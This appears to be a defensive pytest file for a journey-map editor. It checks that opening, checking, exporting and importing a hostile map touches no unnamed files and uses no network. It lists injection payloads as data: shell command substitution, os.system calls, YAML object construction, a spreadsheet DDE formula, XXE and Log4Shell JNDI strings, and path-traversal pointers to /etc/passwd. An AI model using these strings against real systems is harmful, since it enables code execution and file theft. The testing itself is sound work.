"""Opening, checking, exporting and importing touch what was named, and no network and no program."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from journey_editor.cli import main
from tests.hostile import maker
from tests.hostile.test_pictures import ELSEWHERE, NOTHING

ROOT = Path(__file__).resolve().parents[2]
CODE = "__import__('os').system('touch {trap}')"
TEXTS = (
    CODE,
    "{trap.__class__.__mro__[1].__subclasses__()}",
    "{0.__init__.__globals__}",
    "%(trap)s %n%n%n%n",
    "!!python/object/apply:os.system ['touch {trap}']",
    "!include file:///etc/passwd",
    "$(touch {trap}) `touch {trap}` ; touch {trap}",
    "=cmd|' /C touch {trap}'!A0",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<img src='file://{trap}'/> <para>x</para> <font color='{trap}'>",
    "${{jndi:ldap://192.0.2.1/a}}",
    "http://192.0.2.1/a https://192.0.2.1/b mailto:a@192.0.2.1",
)
POINTERS = {
    "$schema": "http://192.0.2.1/schema.json",
    "$ref": "file:///etc/passwd",
    "$id": "https://192.0.2.1/",
    "@context": "https://192.0.2.1/context",
    "__class__": CODE,
    "__reduce__": ["os.system", "touch x"],
    "py/object": "os.system",
    "extends": "../secret.json",
    "template": "/etc/passwd",
    "theme": "../../secret",
}


_PROCESS = re.compile(r"/proc/[0-9]+/stat\Z")


@dataclass
class Trap:
    """A folder with a map in it, files around that must not be touched, and a home of its own."""

    folder: Path
    map: Path
    home: Path
    out: Path

    def run(
        self, *arguments: str | Path, before: tuple[str, ...] = (), close: bool = False
    ) -> dict[str, Any]:
        """What the command line asked for."""
        report = self.out.parent / "report.json"
        command = [*before, sys.executable, "-B", "-m", "tests.hostile.recorder", str(report)]
        command += ["--close"] if close else []
        done = subprocess.run(
            [*command, *map(str, arguments)],
            cwd=ROOT,
            env=self._environment(),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=50,
            check=False,
        )
        assert report.is_file(), done.stderr
        assert "Traceback" not in done.stderr
        return json.loads(report.read_text()) | {"said": done.stdout + done.stderr}

    def _environment(self) -> dict[str, str]:
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("XDG_", "PYTHON"))}
        own = {
            f"XDG_{name}_HOME": str(self.own / name.lower()) for name in ("CACHE", "CONFIG", "DATA", "STATE")
        }
        run = {"XDG_RUNTIME_DIR": str(self.own), "HOME": str(self.home), "QT_QPA_PLATFORM": "offscreen"}
        return kept | own | run

    @property
    def own(self) -> Path:
        """Where settings and unsaved work go."""
        return self.home / "own"


@pytest.fixture
def trap(tmp_path: Path) -> Trap:
    folder, home, out = tmp_path / "map", tmp_path / "home", tmp_path / "out"
    for one in (folder, home / "own", out, home / ".ssh"):
        one.mkdir(parents=True)
    (home / "own").chmod(0o700)
    for secret in (
        tmp_path / "outside.png",
        tmp_path / "secret.json",
        home / ".ssh" / "id",
        home / "secret.png",
    ):
        secret.write_text("secret")
    (folder / "link.png").symlink_to(tmp_path / "outside.png")
    (folder / "way-out").symlink_to(tmp_path)
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.png")
        os.mkfifo(folder / "pipe.png")
    return Trap(folder, maker.put(folder, _map(tmp_path)), home, out)


def _map(folder: Path) -> dict[str, Any]:
    """A map that tries everything: pictures from elsewhere, pointers, and code in every text."""
    texts = [text.replace("{trap}", str(folder / "trapped")) for text in TEXTS]
    told = maker.map_saying("\n".join(texts)) | POINTERS
    persona = told["personas"][0]
    sources = [*ELSEWHERE, *NOTHING, "../pipe.png", "pipe.png", str(folder / "outside.png")]
    told["personas"] = [
        persona | POINTERS | {"id": f"p{number}", "name": texts[number % len(texts)], "image": source}
        for number, source in enumerate(sources)
    ]
    for card in told["touchpoints"]:
        card["experiences"] = [
            {"persona": f"p{number}", "emotion": 1, "thought": CODE} for number in range(3)
        ]
    return told


def _strange(trap: Trap, asked: dict[str, Any]) -> list[str]:
    """Paths that neither were named nor belong to the program and to Python."""
    known = {ROOT / "journey_editor", ROOT / "resources", ROOT / "tests" / "hostile", ROOT / "samples"}
    known |= {Path(path) for path in (*sysconfig.get_paths().values(), sys.prefix, sys.base_prefix)}
    known |= {trap.own, trap.out, Path("/dev/null")}
    # Whose lock a file has is told by machine, start of the machine and start of the process.
    known |= {Path("/etc/machine-id"), Path("/proc/sys/kernel/random/boot_id")}
    # reportlab looks for settings of its own; fonts of the system and the person draw what ours lack.
    known |= {trap.home / ".reportlab_mods", trap.home / ".reportlab_settings"}
    known |= {
        Path("/usr/share/fonts"),
        Path("/usr/local/share/fonts"),
        trap.home / ".fonts",
        trap.home / ".local" / "share" / "fonts",
        Path("/Library/Fonts"),
        Path("C:\\Windows\\Fonts"),
    }
    looked = {Path(path) for path in sys.path if path} | {ROOT, ROOT / "tests", trap.folder}
    return [
        path
        for path in asked["opened"]
        if (one := Path(path).absolute()) != trap.map
        and one not in looked
        and not any(one.is_relative_to(place) for place in known)
        and not _PROCESS.match(path)
    ]


def _touched(trap: Trap, asked: dict[str, Any]) -> None:
    """Make sure that nothing else was touched."""
    assert asked["forbidden"] == []
    strange = _strange(trap, asked)
    assert strange == [], "\n".join(strange)
    places = (trap.own, trap.out, Path("/dev/null"))
    lock = f".~lock.{trap.map.name}#"
    written = [path for path in asked["written"] if not any(Path(path).is_relative_to(one) for one in places)]
    assert [
        path for path in written if Path(path).parent != trap.folder or not _is_own(Path(path).name, lock)
    ] == []
    around = trap.folder.parent
    assert {one.name for one in around.iterdir()} - {"report.json", "pipe.png"} == {
        "home", "map", "out", "outside.png", "secret.json"
    }  # fmt: skip
    assert sorted(one.name for one in trap.home.iterdir()) == [".ssh", "own", "secret.png"]


def _is_own(name: str, lock: str) -> bool:
    return name == lock or name.endswith(".journey-editor.tmp")


def test_check(trap: Trap) -> None:
    before = trap.map.read_bytes()
    asked = trap.run("check", trap.map)
    assert asked["code"] == 1
    assert str(trap.map) in asked["opened"]
    assert asked["written"] == []
    _touched(trap, asked)
    assert trap.map.read_bytes() == before


def test_export(trap: Trap) -> None:
    outs = [trap.out / f"map{suffix}" for suffix in (".pdf", ".png", ".svg", ".notes", ".journey.json")]
    asked = trap.run("export", trap.map, "--scale", "0.5", *(part for out in outs for part in ("-o", out)))
    assert asked["code"] == 1, asked["said"]
    assert all(out.stat().st_size for out in outs)
    _touched(trap, asked)
    for out in outs:
        # The map itself, which rides inside, says what it says.
        drawn = re.sub(b"<metadata>.*?</metadata>", b"", out.read_bytes(), flags=re.DOTALL)
        assert b"root:" not in drawn
        assert b"secret" not in drawn or out.suffix in (".json", ".notes")


def test_import(trap: Trap) -> None:
    notes = trap.folder / "map.notes"
    notes.write_text(
        "\n".join(f"{sign}{text}" for text in TEXTS for sign in ("# ", "", "! ", '" ', "& ", "-> "))
    )
    trap.map = notes
    asked = trap.run("import", notes, "-o", trap.out / "made.journey.json")
    assert asked["code"] in (0, 1)
    assert (trap.out / "made.journey.json").is_file()
    _touched(trap, asked)


def test_the_window(trap: Trap) -> None:
    before = trap.map.read_bytes()
    asked = trap.run(trap.map, close=True)
    assert asked["code"] == 0, asked["said"]
    assert str(trap.map) in asked["opened"]
    _touched(trap, asked)
    assert trap.map.read_bytes() == before


def _mailed(trap: Trap, kind: str) -> bytes:
    """Let the map come inside a file of another kind, in the place of its own; its bytes."""
    carrier = trap.map.with_name(f"mailed.{kind}")
    assert main(["export", str(trap.map), "--scale", "0.3", "-o", str(carrier)]) == 1
    trap.map = carrier
    return carrier.read_bytes()


@pytest.mark.parametrize("kind", ["pdf", "svg", "png"])
def test_check_of_a_map_inside_another_file(trap: Trap, kind: str) -> None:
    before = _mailed(trap, kind)
    asked = trap.run("check", trap.map)
    assert asked["code"] == 1, asked["said"]
    assert str(trap.map) in asked["opened"]
    assert asked["written"] == []
    _touched(trap, asked)
    assert trap.map.read_bytes() == before


def test_the_window_with_a_map_inside_a_pdf(trap: Trap) -> None:
    before = _mailed(trap, "pdf")
    asked = trap.run(trap.map, close=True)
    assert asked["code"] == 0, asked["said"]
    assert str(trap.map) in asked["opened"]
    _touched(trap, asked)
    assert trap.map.read_bytes() == before
    assert not list(trap.folder.glob(".~lock*"))


def _without_network() -> tuple[str, ...]:
    """What runs a command where there is no network, if that may be done here."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return ()
    tried = subprocess.run([unshare, "-rn", "true"], capture_output=True, check=False)
    return (unshare, "-rn") if tried.returncode == 0 else ()


def test_it_does_the_same_where_there_is_no_network(trap: Trap) -> None:
    before = _without_network()
    if not before:
        pytest.skip("no network namespace may be made here; the hooks of the other tests refuse sockets")
    out = trap.out / "map.pdf"
    assert trap.run("export", trap.map, "-o", out, before=before)["code"] == 1
    assert out.read_bytes().startswith(b"%PDF")
    assert trap.run(trap.map, close=True, before=before)["code"] == 0
